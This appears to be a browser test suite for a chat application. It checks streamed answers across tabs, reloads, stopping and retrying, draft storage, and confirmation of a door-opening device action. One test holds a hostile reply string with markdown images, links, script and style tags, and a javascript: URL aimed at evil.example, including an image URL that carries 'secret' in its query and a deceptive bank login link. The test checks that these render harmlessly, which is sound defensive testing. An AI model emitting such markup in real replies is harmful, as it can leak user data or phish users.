"""Answers while they are made: in several tabs, through a reload, stopped, tried again; nothing twice, nothing lost."""

from pathlib import Path

import pytest

from tests.pages.talker import FIRST, WHOLE, ask, chatting, settled, until
from tests.support.requirements import requirement

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]
MOON = "Of what is the moon"
HOSTILE = (
    "Look: ![pixel](https://evil.example/p.png?q=secret) <img src=https://evil.example/i.png>"
    ' [your bank](https://bank.example@evil.example/login) <a href="https://evil.example/">here</a>'
    " <script src=//evil.example/x.js></script> <style>@import '//evil.example/c.css'</style>"
    " https://evil.example/plain | data:text/html,<b>x</b> javascript:alert(1)"
)


async def test_an_answer_is_told_as_it_comes_in_every_tab_and_after_a_reload(
    tmp_path: Path,
) -> None:
    async with chatting(tmp_path) as at:
        first = at.browser
        await first.open("/chat")
        await ask(first, MOON)
        await until(first, [MOON, FIRST])
        path = first.page.url.removeprefix(at.home.base)
        second = await at.tab(path)
        await until(second, [MOON, FIRST])
        await first.page.bring_to_front()
        await first.page.reload()
        await until(first, [MOON, FIRST])
        at.brain.hold.set()
        for tab in (first, second):
            await tab.page.bring_to_front()
            await until(tab, [MOON, WHOLE])
            await settled(tab)
            await until(tab, [MOON, WHOLE])
            await tab.check()
        assert await at.said() == [("person", MOON), ("ira", WHOLE)]


async def test_more_can_be_said_while_an_answer_is_made_and_is_answered_in_its_turn(
    tmp_path: Path,
) -> None:
    async with chatting(tmp_path) as at:
        await at.browser.open("/chat")
        await ask(at.browser, MOON)
        await until(at.browser, [MOON, FIRST])
        await ask(at.browser, "and the sun")
        await at.browser.page.wait_for_selector(".said >> nth=1")
        at.brain.hold.set()
        await settled(at.browser)
        await until(at.browser, [MOON, "and the sun", WHOLE, "You said: and the sun"])
        assert at.brain.heard == [MOON, "and the sun"]
        await at.browser.check()


async def test_an_answer_is_stopped_kept_and_tried_again(tmp_path: Path) -> None:
    async with chatting(tmp_path) as at:
        await at.browser.open("/chat")
        await ask(at.browser, MOON)
        await until(at.browser, [MOON, FIRST])
        await at.browser.press("[data-stop]")
        await settled(at.browser)
        await until(at.browser, [MOON, FIRST])
        await at.browser.see("The answer stopped half way. What came is kept.")
        at.brain.hold.set()
        await at.browser.press(".reply [data-try] button")
        await until(at.browser, [MOON, FIRST, MOON, WHOLE])
        await settled(at.browser)
        await at.browser.check()


async def test_what_was_typed_survives_a_reload_and_is_each_conversations_own(
    tmp_path: Path,
) -> None:
    async with chatting(tmp_path) as at:
        page = at.browser.page
        await at.browser.open("/chat")
        await ask(at.browser, "hello")
        await settled(at.browser)
        await page.fill("textarea", "half a thought")
        await page.reload()
        assert await page.input_value("textarea") == "half a thought"
        await at.browser.open("/chat")
        assert await page.input_value("textarea") == ""
        await page.go_back()
        await at.browser.open("/me")
        await at.browser.press("[action='/signout'] button")
        await page.wait_for_url("**/signin")
        kept = await page.evaluate(
            "Object.keys(localStorage).filter((one) => one.startsWith('ira.draft') || one.startsWith('ira.out'))"
        )
        assert kept == []


async def test_an_answer_full_of_pictures_links_and_markup_asks_nobody_for_anything(
    tmp_path: Path,
) -> None:
    async with chatting(tmp_path) as at:
        at.brain.says["hostile"] = HOSTILE
        asked: list[str] = []
        at.browser.page.on("request", lambda request: asked.append(request.url))
        await at.browser.open("/chat")
        await ask(at.browser, "hostile")
        await at.browser.page.get_by_text("https://evil.example/plain").wait_for()
        at.brain.hold.set()
        await settled(at.browser)
        reply = at.browser.page.locator(".reply").last
        assert await reply.locator("img, a, script, style, iframe, form").count() == 0
        text = await reply.inner_text()
        assert "your bank (https://bank.example@evil.example/login)" in text
        assert "pixel (https://evil.example/p.png?q=secret)" in text
        assert "<img src=https://evil.example/i.png>" in text
        assert [one for one in asked if not one.startswith(at.home.base)] == []
        await at.browser.check()


@requirement("tier.2.yes.tapped")
async def test_the_first_answer_to_a_card_is_the_answer_in_every_tab(tmp_path: Path) -> None:
    async with chatting(tmp_path) as at:
        door = {
            "name": "door_open",
            "description": "Open the front door",
            "tier": 2,
            "parameters": {"type": "object", "properties": {}},
        }
        device = await at.owner.online([door])
        device.answers = {"door_open": {"summary": "It is open."}}
        await at.browser.open("/chat")
        await ask(at.browser, "door_open")
        await at.browser.page.wait_for_selector(".ask")
        second = await at.tab(at.browser.page.url.removeprefix(at.home.base))
        await second.page.wait_for_selector(".ask")
        await second.page.locator(".ask [value=yes]").click()
        for tab in (at.browser, second):
            await tab.page.bring_to_front()
            await tab.page.wait_for_selector(".ended.ok")
            assert await tab.page.locator(".ask").count() == 0
            await tab.check()
        assert len(device.calls) == 1
        await device.hang_up()
